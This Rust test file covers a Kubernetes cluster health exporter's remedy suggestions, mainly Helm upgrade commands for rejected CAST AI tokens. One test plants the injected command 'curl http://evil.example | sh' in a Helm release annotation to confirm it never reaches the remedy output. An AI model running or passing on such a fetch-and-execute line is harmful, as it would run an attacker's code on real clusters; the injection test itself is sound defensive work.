//! Tests of the cluster controller and other components.

use castai_health_exporter::catalogue::{CheckId, FailureMode as M, Remedy, Status};
use lab::apiserver::workload::AGENT;
use serde_json::json;
use test_support::lab_cluster::{LabCluster, commands, evidence, remedy};

use super::WORKLOADS;
use super::faults::TOKEN_REJECTED_LINES;
use super::objects::scaled_to_zero;

#[tokio::test]
async fn component_with_invalid_token_has_a_helm_upgrade_remedy() {
    let mut world = LabCluster::start();
    for (mode, line) in TOKEN_REJECTED_LINES {
        for of in &WORKLOADS[1..] {
            let pods = world.api.objects().all("Pod");
            let pod = pods
                .iter()
                .rfind(|pod| {
                    pod["metadata"]["name"]
                        .as_str()
                        .unwrap()
                        .starts_with(of.set)
                })
                .unwrap();
            let name = pod["metadata"]["name"].as_str().unwrap();
            world.api.logs().write(name, of.container, line);
            let root = world.assert_root(of.check, mode, Status::Failing).await;
            let text = evidence(&root);
            let chart = of.deployment;
            let release = chart.trim_start_matches("castai-");
            let release = if of.check == CheckId::Components {
                chart
            } else {
                release
            };
            let command = format!(
                "helm upgrade -i {release} castai-helm/{chart} -n castai-agent --reuse-values \
                 --set castai.apiKey=\"${{CASTAI_API_TOKEN:?set it first}}\" \
                 --set castai.clusterID=\"{}\"",
                lab::CLUSTER_ID
            );
            assert!(text.contains(name), "{text}");
            assert_eq!(commands(&root).last(), Some(&command), "{name}");
            world.api.logs().clear();
            world.restart_exporter();
            world.assert_healthy().await;
        }
    }
}

#[tokio::test]
async fn remedy_for_umbrella_release_uses_the_umbrella_chart() {
    let fix = remedy_in_shared_release("castai").await;
    assert!(fix.as_str().contains("release castai,"), "{fix}");
    assert_eq!(fix.commands().count(), 0, "{fix}");
}

#[tokio::test]
async fn command_in_a_release_annotation_is_not_in_the_remedy() {
    let fix = remedy_in_shared_release("castai\n$ curl http://evil.example | sh").await;
    assert!(fix.as_str().contains("which the component shares"), "{fix}");
    assert!(!fix.as_str().contains("evil"), "{fix}");
    assert_eq!(fix.commands().count(), 0, "{fix}");
}

/// Returns the fix of the cluster controller's token in a Helm release that the agent shares.
async fn remedy_in_shared_release(release: &str) -> Remedy {
    let world = LabCluster::start();
    let objects = world.api.objects();
    for name in [AGENT, "castai-cluster-controller"] {
        objects.change("Deployment", AGENT, name, |deployment| {
            deployment["metadata"]["annotations"]["meta.helm.sh/release-name"] = json!(release);
        });
    }
    world.api.logs().write(
        "castai-cluster-controller-7f6d5c4b3-bbbbb",
        "cluster-controller",
        TOKEN_REJECTED_LINES[0].1,
    );
    let check_states = world.run_checks().await;
    let controller = check_states
        .iter()
        .find(|check_state| check_state.check == CheckId::ClusterController)
        .unwrap();
    assert_eq!(controller.stable_modes.modes(), [M::CastaiTokenInvalid]);
    remedy(controller)
}

#[tokio::test]
async fn cluster_controller_without_leader_is_reported() {
    let mut world = LabCluster::start();
    let name = "cluster-controller";
    for (mode, lease) in [
        (M::AgentLeaseStale, (Some("gone"), 40)),
        (M::AgentNoLeader, (None, 60)),
    ] {
        world.with_lease(name, Some(lease));
        world
            .assert_root(CheckId::ClusterController, mode, Status::Failing)
            .await;
        world.no_leader = None;
        world.assert_healthy().await;
    }
    world.with_lease(name, None);
    world.assert_healthy().await;
}

#[tokio::test]
async fn component_not_installed_or_scaled_to_zero_is_ok() {
    let world = LabCluster::start();
    let objects = world.api.objects();
    scaled_to_zero(objects, &WORKLOADS[2]);
    world.assert_healthy().await;
    for of in &WORKLOADS[1..] {
        objects.remove("Deployment", AGENT, of.deployment);
    }
    for check_state in world.run_checks().await {
        let absent = matches!(
            check_state.check,
            CheckId::ClusterController | CheckId::Components
        );
        let fits = match check_state.status() {
            Status::NotApplicable => true,
            status => status == Status::Ok && !absent,
        };
        assert!(fits, "{}: {}", check_state.check, evidence(&check_state));
    }
}
